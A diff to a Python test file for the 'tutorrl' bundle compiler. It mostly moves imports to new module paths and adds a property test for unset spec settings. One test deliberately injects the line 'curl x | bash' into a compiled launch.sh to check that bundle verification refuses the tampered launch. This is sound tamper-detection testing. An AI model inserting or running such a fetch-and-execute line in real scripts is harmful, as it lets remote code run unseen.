@@ -16,11 +16,11 @@ from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
 import support
-from tutorrl.compiler import bundle as bundle_module
 from tutorrl.compiler import compile_bytes, write_bundle
-from tutorrl.compiler.load import parse_spec
-from tutorrl.compiler.normalize import normalize
-from tutorrl.compiler.spec import to_builtins
+from tutorrl.compiler.bundle import store as bundle_module
+from tutorrl.compiler.spec.load import parse_spec
+from tutorrl.compiler.spec.normal_form import normalize
+from tutorrl.compiler.spec.structs import to_builtins
 from tutorrl.errors import BundleError, SpecError
 
 GRPO = support.SPECS / "chess_tutor_grpo.toml"
@@ -185,7 +185,7 @@ def test_bundle_id_is_a_digest_prefix_and_files_are_listed(tmp_path):
 
 def test_reseal_is_the_compilers_own_sealing(tmp_path):
     from tutorrl.compiler import verify_bundle
-    from tutorrl.compiler.bundle import reseal
+    from tutorrl.compiler.bundle.manifest import reseal
 
     compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
     same = reseal(compiled)
@@ -212,7 +212,8 @@ def test_verify_re_derives_and_refuses_a_resealed_launch_posing_as_compiled(tmp_
     import msgspec
 
     from tutorrl.compiler import verify_bundle
-    from tutorrl.compiler.bundle import MANIFEST, _seal, canonical_json, reseal
+    from tutorrl.contract import MANIFEST
+    from tutorrl.compiler.bundle.manifest import seal, canonical_json, reseal
 
     compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
     evil = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
@@ -265,7 +266,7 @@ _VALUES = st.recursive(_SCALARS, lambda inner: st.one_of(
 @settings(max_examples=300, deadline=None)
 @given(st.lists(_VALUES, max_size=6))
 def test_stated_defaults_are_written_one_value_per_line_as_toml_writes_each(values):
-    from tutorrl.compiler.bundle import _toml_values
+    from tutorrl.compiler.pipeline.assemble import _toml_values
 
     def alone(value):  # each scalar through TOML's writer on its own
         if isinstance(value, list):
@@ -277,3 +278,25 @@ def test_stated_defaults_are_written_one_value_per_line_as_toml_writes_each(valu
     written = _toml_values(values)
     assert written == [alone(v) for v in values]
     assert not [w for w in written if "\n" in w]
+
+
+@settings(max_examples=60, deadline=None)
+@given(data=st.data())
+def test_the_unset_walk_is_the_dotted_lookup_of_every_setting(data):
+    """spec.toml's "not set here" list comes from one walk of the spec; it must name exactly
+    the settings a dotted lookup finds unset, in declaration order, whatever is left out."""
+    from tutorrl.compiler.pipeline.assemble import _unset_settings, spec_settings
+    from tutorrl.compiler.spec import get_field
+
+    spec, _ = parse_spec(GRPO.read_bytes(), "g.toml")
+    # Unset a random choice of sections and leaves (a section unset hides all under it).
+    for path in data.draw(st.lists(st.sampled_from(sorted({s.rpartition(".")[0] or s for s in spec_settings()}
+                                                          | set(spec_settings()))), max_size=12)):
+        parent, _, leaf = path.rpartition(".")
+        holder = get_field(spec, parent) if parent else spec
+        if holder is not None and leaf != "experiment" and not parent.startswith("experiment"):
+            try:
+                msgspec.structs.force_setattr(holder, leaf, None)
+            except AttributeError:
+                continue
+    assert _unset_settings(spec) == [s for s in spec_settings() if get_field(spec, s) is None]
